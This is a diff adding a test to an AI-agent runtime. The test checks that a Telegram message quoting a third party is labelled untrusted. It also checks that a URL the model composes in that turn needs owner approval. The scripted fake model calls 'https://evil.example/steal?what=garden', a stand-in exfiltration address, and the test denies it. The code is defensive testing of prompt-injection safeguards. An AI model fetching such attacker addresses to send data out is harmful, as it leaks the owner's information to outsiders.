@@ -464,3 +464,57 @@ ${telegramYaml(telegram)}`,
     await runtime.close();
   }
 });
+
+Deno.test("the owner's words beside a quote stay theirs: the quote taints the turn, their address is theirs", async () => {
+  const mine = "https://owner.example/garden";
+  const composed = "https://evil.example/steal?what=garden";
+  await using model = startFakeOpenAI({
+    replies: [
+      { tool_calls: [{ name: "fetch_url", arguments: { url: mine } }] },
+      { tool_calls: [{ name: "fetch_url", arguments: { url: composed } }] },
+      { text: "Checked." },
+    ],
+  });
+  await using telegram = await startFakeTelegram();
+  await using home = await tempHome(fakeProviderYaml(model.url, telegramYaml(telegram)));
+  const runtime = await serving(home.home);
+  try {
+    // The owner quotes Eve's message from another chat and asks, giving an address of their own.
+    telegram.push({
+      from: { id: OWNER, username: "ada" },
+      text: `Is ${mine} the page she means?`,
+      fields: {
+        external_reply: {
+          origin: {
+            type: "user",
+            date: 1_700_000_000,
+            sender_user: { id: 7777, first_name: "Eve" },
+          },
+          chat: { id: -1005555, type: "supergroup", title: "Market" },
+        },
+        quote: { text: "Look at my garden page", position: 0 },
+      },
+    });
+    // The address the model composed asks the owner; deny it.
+    await telegram.until(() => runtime.app.approvals.list().length === 1, "the approval asked");
+    const [asked] = runtime.app.approvals.list();
+    assertEquals(asked.tool, "fetch_url");
+    runtime.app.approvals.decide({ id: asked.id, decision: "deny" });
+    await telegram.until(() => texts(telegram, OWNER).includes("Checked."), "hob's answer");
+    const [conversation] = runtime.app.conversations.list({ kind: "channel" });
+    const events = runtime.app.conversations.toolEvents({ id: conversation.id });
+    const urlOf = (e: { arguments: string }) => JSON.parse(e.arguments).url;
+    // The owner's own address went unasked in the tainted turn; the composed one was asked.
+    assertEquals(
+      events.map((e) => [urlOf(e), e.approval_id !== null]),
+      [[mine, false], [composed, true]],
+    );
+    // The model read the quote labelled as Eve's, after the owner's words.
+    assertMatch(
+      lastUserMessage(model.requests[0].body),
+      /^Is https:\/\/owner\.example\/garden the page she means\?\n\n<untrusted source="telegram: quoted from Eve/,
+    );
+  } finally {
+    await runtime.close();
+  }
+});
